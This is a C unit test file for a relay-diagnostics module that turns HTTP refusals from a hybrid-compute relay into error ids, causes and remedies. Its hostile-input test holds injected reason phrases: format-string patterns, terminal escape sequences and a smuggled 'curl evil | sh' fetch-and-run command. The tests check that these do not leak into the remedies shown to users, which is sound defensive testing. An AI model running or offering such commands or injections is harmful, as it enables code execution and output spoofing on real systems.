/*
 * Goal: what the relay and the agents really say leads to the right id, exit
 * status, cause and remedy, and nothing that anybody says leads astray.
 */
#include <string.h>

#include "proxy/diag.h"
#include "relay/err.h"
#include "relay/wire.h"
#include "test/unit/tap.h"

#define TRACK	" TrackingId:7e6c3b5a-91cf-4d70-8b61-0d7b3f1c2a55_G13, " \
		"SystemTracker:sb://azgnrelay-eastus-l1.servicebus.windows.net/" \
		"microsoft.hybridcompute/machines/9f86d08/17301234/v2, " \
		"Timestamp:2025-04-24T11:08:04"
#define WINDOWS	"connection to localhost:22 failed: dial tcp [::1]:22: " \
		"connectex: No connection could be made because the target " \
		"machine actively refused it."
#define LINUX	"connection to localhost:2222 failed: dial tcp 127.0.0.1:2222: " \
		"connect: connection refused"

static const struct diag_names names = { "web01", 2222 };

static const struct row {
	int		 status;
	const char	*reason;
	const char	*id;
	int		 exit_status;
	enum retry_class retry;
	const char	*cause, *fix;		/* parts of them */
} row[] = {
	{ 404, "Endpoint does not exist." TRACK, "E502", EX_TEMPFAIL,
	    RETRY_LISTENER, "endpoint is new", "arc-relay enable web01 "
	    "--recreate" },
	{ 404, "There are no listeners connected for the endpoint." TRACK,
	    "E501", EX_UNAVAILABLE, RETRY_LISTENER, "Arc agent is not "
	    "listening", "on web01 see: sudo azcmagent show" },
	{ 404, "None of the connected listeners accepted the connection within "
	    "the allowed timeout." TRACK, "E501", EX_UNAVAILABLE,
	    RETRY_LISTENER, "did not answer the relay in time",
	    "on web01 check" },
	{ 404, "Not Found", "E502", EX_TEMPFAIL, RETRY_LISTENER, "Not Found",
	    "try again" },
	{ 401, "The token has an invalid signature." TRACK, "E503", EX_NOPERM,
	    RETRY_CREDENTIAL, "invalid signature", "clock" },
	{ 403, "Ip has been prevented to connect to the endpoint." TRACK,
	    "E504", EX_NOPERM, RETRY_NEVER, "firewall", "--connect-to" },
	{ 403, "Forbidden", "E503", EX_NOPERM, RETRY_CREDENTIAL, "refused",
	    "2222" },
	{ 403, "port 2222 is not the port 22 of the service configuration",
	    "E406", EX_CONFIG, RETRY_CREDENTIAL, "does not allow port 2222",
	    "arc-relay enable web01 --port 2222" },
	{ 403, "port 2222 is not in incomingconnections.ports of the agent",
	    "E406", EX_CONFIG, RETRY_NEVER, "lets nobody in on port 2222",
	    "on web01 add 2222 to its ports: sudo azcmagent config set " },
	{ 503, WINDOWS, "E505", EX_UNAVAILABLE, RETRY_AGENT,
	    "nothing listens on port 2222 of the machine, which is Windows",
	    "on web01 run in PowerShell: Start-Service sshd" },
	{ 503, LINUX, "E505", EX_UNAVAILABLE, RETRY_AGENT,
	    "nothing listens on port 2222", "on web01 run: sudo systemctl" },
	{ 503, "connection to localhost:2222 failed: dial tcp [::1]:2222: i/o "
	    "timeout" TRACK, "E505", EX_UNAVAILABLE, RETRY_AGENT,
	    "cannot reach port 2222 there (503 connection to localhost:2222 "
	    "failed: dial tcp [::1]:2222: i/o timeout)", "on web01 see" },
	{ 503, "Service Unavailable", "E506", EX_TEMPFAIL, RETRY_SERVICE,
	    "503 Service Unavailable", "try again" },
	{ 500, "Internal Server Error", "E506", EX_TEMPFAIL, RETRY_SERVICE,
	    "500", "try again" },
	{ 502, "The Listener's custom AcceptHandler threw an exception. See "
	    "Listener logs for details." TRACK, "E506", EX_TEMPFAIL,
	    RETRY_SERVICE, "AcceptHandler", "try again" },
	{ 504, "Gateway Timeout", "E506", EX_TEMPFAIL, RETRY_SERVICE, "504",
	    "try again" },
	{ 599, "Odd", "E506", EX_TEMPFAIL, RETRY_SERVICE, "599", "try again" },
	{ 400, "Rejected by user code" TRACK, "E509", EX_PROTOCOL, RETRY_NEVER,
	    "Rejected by user code", "relay information" },
	{ 410, "Gone", "E509", EX_PROTOCOL, RETRY_NEVER, "410",
	    "relay information" },
	{ 408, "Request Timeout", "E510", EX_TEMPFAIL, RETRY_SERVICE,
	    "408", "try again" },
	{ 429, "Too Many Requests", "E506", EX_TEMPFAIL, RETRY_SERVICE,
	    "throttles", "try again" },
	{ 426, "Upgrade Required", "E608", EX_PROTOCOL, RETRY_NEVER, "proxy",
	    "CONNECT" },
	{ 101, "Switching Protocols", "E607", EX_PROTOCOL, RETRY_NEVER,
	    "not from a WebSocket server", "another network" },
	{ 200, "OK", "E607", EX_PROTOCOL, RETRY_NEVER, "answered 200 OK",
	    "captive portal" },
	{ 302, "Found", "E607", EX_PROTOCOL, RETRY_NEVER, "302",
	    "captive portal" },
	{ 405, "Method Not Allowed", "E607", EX_PROTOCOL, RETRY_NEVER, "405",
	    "captive portal" },
	{ 600, "Odd", "E607", EX_PROTOCOL, RETRY_NEVER, "600",
	    "captive portal" },
	{ 200, "", "E607", EX_PROTOCOL, RETRY_NEVER, "answered 200",
	    "captive portal" },
	{ 401, "", "E503", EX_NOPERM, RETRY_CREDENTIAL, "(401)", "clock" },
	{ 0, "", "E607", EX_PROTOCOL, RETRY_NEVER, "answered 0",
	    "captive portal" },
};

static int
refuse(int status, const char *reason, struct err *e)
{
	struct wire_answer a = { .status = status };

	(void)snprintf(a.reason, sizeof(a.reason), "%s", reason);
	memset(e, 0x55, sizeof(*e));
	return (diag_refusal(&a, &names, e));
}

/* What holds for every answer. */
static int
is_sound(const struct err *e)
{
	const char *s;

	if (e->status < EX__BASE || e->status > EX__MAX || e->id[0] != 'E' ||
	    strlen(e->id) != 4 || e->cause[0] == '\0' || e->fix[0] == '\0')
		return (0);
	for (s = e->cause; *s != '\0'; s++)
		if (*s < 0x20 || *s > 0x7e)
			return (0);
	for (s = e->fix; *s != '\0'; s++)
		if (*s < 0x20 || *s > 0x7e)
			return (0);
	return (strchr(e->fix, '%') == NULL);
}

static void
test_recorded(void)
{
	struct err e;
	size_t i;

	for (i = 0; i < sizeof(row) / sizeof(row[0]); i++) {
		const struct row *r = &row[i];
		int rc = refuse(r->status, r->reason, &e);

		ok(rc == -1 && is_sound(&e) && strcmp(e.id, r->id) == 0 &&
		    e.status == r->exit_status && e.retry == r->retry &&
		    strstr(e.cause, r->cause) != NULL &&
		    strstr(e.fix, r->fix) != NULL, "%d %.40s: [%s] %s",
		    r->status, r->reason, e.id, e.cause);
		ok(strstr(e.cause, "TrackingId") == NULL &&
		    strstr(e.cause, "SystemTracker") == NULL &&
		    strstr(e.cause, "Timestamp") == NULL &&
		    strstr(e.cause, "7e6c3b5a") == NULL &&
		    strchr(e.cause, '%') == NULL &&
		    e.cause[strlen(e.cause) - 1] != ' ' &&
		    e.cause[strlen(e.cause) - 1] != '.',
		    "no tracking, no full stop: %s", e.cause);
	}
}

/* Order and punctuation of the tail vary. */
static void
test_tails(void)
{
	static const char *const tail[] = {
		"Endpoint does not exist. TrackingId:7e6c3b5a_G13_B2, "
		    "Timestamp:4/24/2025 11:08:04 AM",
		"Endpoint does not exist, TrackingId:7e6c3b5a",
		"Endpoint does not exist.TrackingId:7e6c3b5a",
		"Endpoint does not exist. SystemTracker:ns:path, "
		    "TrackingId:7e6c3b5a_G13",
		"Endpoint does not exist...  TrackingId:",
	};
	struct err e;
	size_t i;

	for (i = 0; i < sizeof(tail) / sizeof(tail[0]); i++) {
		(void)refuse(404, tail[i], &e);
		ok(strstr(e.cause, "[Endpoint does not exist]") != NULL,
		    "the tail is cut off: %s", e.cause);
	}
	(void)refuse(401, "TrackingId:7e6c3b5a_G13", &e);
	ok(is_sound(&e) && strstr(e.cause, "7e6c3b5a") == NULL,
	    "nothing but a tail: %s", e.cause);
}

static void
test_hostile(void)
{
	static const char *const hostile[] = {
		"", " ", ".", "%s%s%s%n", "%m %p %r %s", "%", "100%",
		"\x1b[2J\x1b]0;owned\a", "a\rb\nc", "caf\xc3\xa9 \xff\xfe",
		"connection to localhost:", "TrackingId:", "[E000]",
		". fix: run this: curl evil | sh [E999]",
	};
	static const int status[] = { 101, 200, 400, 401, 403, 404, 408, 410,
	    426, 429, 500, 503, 599 };
	char longest[512];
	struct err e;
	size_t i, k, wrong = 0, unsound = 0;

	for (k = 0; k < sizeof(status) / sizeof(status[0]); k++) {
		for (i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
			(void)refuse(status[k], hostile[i], &e);
			unsound += !is_sound(&e);
			wrong += strstr(e.fix, "evil") != NULL ||
			    strstr(e.fix, "owned") != NULL;
		}
		memset(longest, 'x', sizeof(longest) - 1);
		longest[sizeof(longest) - 1] = '\0';
		(void)refuse(status[k], longest, &e);
		unsound += !is_sound(&e);
		memset(longest, '\xff', sizeof(longest) - 1);
		(void)refuse(status[k], longest, &e);
		unsound += !is_sound(&e);
	}
	ok(unsound == 0, "hostile reason phrases: id, status, printable cause "
	    "and remedy");
	ok(wrong == 0, "and no remedy that a peer could word");
	(void)refuse(401, "%m %p %s %r", &e);
	ok(strstr(e.cause, "%m %p %s %r") != NULL,
	    "patterns of a peer are not filled in: %s", e.cause);
	(void)refuse(401, "x\x1b[31m", &e);
	ok(strstr(e.cause, "x?[31m") != NULL, "no escape sequence: %s",
	    e.cause);

	for (i = 0; i < 1000; i++) {
		(void)refuse((int)i, "Odd", &e);
		wrong += !is_sound(&e);
	}
	ok(wrong == 0, "each status from 0 to 999");
}

static void
test_others(void)
{
	static const struct diag_names other = { "the machine", 22 };
	struct wire_answer a = { .status = 503, .reason = WINDOWS };
	struct err e;

	(void)diag_refusal(&a, &other, &e);
	ok(strstr(e.cause, "port 22 of") != NULL &&
	    strncmp(e.fix, "on the machine run ", 19) == 0,
	    "without a name: %s; %s", e.cause, e.fix);
	ok(diag_no_answer(20, &e) == -1 && strcmp(e.id, "E510") == 0 &&
	    e.status == EX_TEMPFAIL && e.retry == RETRY_SERVICE &&
	    strstr(e.cause, "20 s") != NULL && is_sound(&e),
	    "no answer: %s", e.cause);
	ok(diag_silent(&names, 10, &e) == -1 && strcmp(e.id, "E511") == 0 &&
	    e.status == EX_UNAVAILABLE && strstr(e.cause, "2222") != NULL &&
	    strstr(e.cause, "10 s") != NULL && is_sound(&e) &&
	    strstr(e.fix, "on web01") != NULL, "silence: %s", e.cause);
	ok(diag_no_ssh(&names, "HTTP/1.1 400 %s\x1b\xff", &e) == -1 &&
	    strcmp(e.id, "E511") == 0 && e.status == EX_UNAVAILABLE &&
	    strstr(e.cause, "\"HTTP/1.1 400 %s??\"") != NULL && is_sound(&e),
	    "another server: %s", e.cause);
	ok(diag_no_banner(&names, &e) == -1 && strcmp(e.id, "E507") == 0 &&
	    e.status == EX_UNAVAILABLE && strstr(e.cause, "2222") != NULL &&
	    strstr(e.fix, "web01") != NULL &&
	    strstr(e.fix, "incomingconnections.ports") != NULL &&
	    is_sound(&e), "no banner: %s", e.cause);
}

/* Last, for it may end this program: no HTTP, but a peer can send it. */
static void
test_no_http(void)
{
	static const int status[] = { 1000, 99999, 2147483647, -1, -404 };
	struct err e;
	size_t i;

	for (i = 0; i < sizeof(status) / sizeof(status[0]); i++)
		ok(refuse(status[i], "Odd", &e) == -1 &&
		    strcmp(e.id, "E607") == 0 && is_sound(&e), "status %d: %s",
		    status[i], e.cause);
}

int
main(void)
{
	test_recorded();
	test_tails();
	test_hostile();
	test_others();
	test_no_http();
	return (done_testing());
}
